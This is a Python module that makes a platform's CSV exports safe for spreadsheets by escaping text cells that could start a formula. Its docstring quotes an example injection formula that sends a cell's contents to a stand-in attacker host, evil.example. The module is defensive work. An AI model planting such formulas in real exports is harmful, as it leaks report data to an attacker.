"""CSV the platform writes for people who open it in a spreadsheet: every text cell is neutralised
against formula injection (OWASP "CSV injection"), e.g. a campaign titled
`=HYPERLINK("https://evil.example/?d="&E2,"Open")` must not become a live formula in an officer's
report. Numbers stay numbers."""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping
from decimal import Decimal
from typing import Any

# A cell starting with one of these is evaluated by Excel / LibreOffice / Google Sheets.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n")


def safe_cell(value: Any) -> Any:
    """`value` as a spreadsheet shows it literally: text that could start a formula gets a leading `'`."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal):  # bool is an int
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


class SafeWriter:
    """`csv.writer` whose every cell goes through `safe_cell`."""

    def __init__(self, stream, **kwargs) -> None:
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([safe_cell(cell) for cell in row])


class SafeDictWriter(csv.DictWriter):
    """`csv.DictWriter` whose every cell goes through `safe_cell`."""

    def writerow(self, rowdict: Mapping[str, Any]):
        return super().writerow({key: safe_cell(value) for key, value in rowdict.items()})
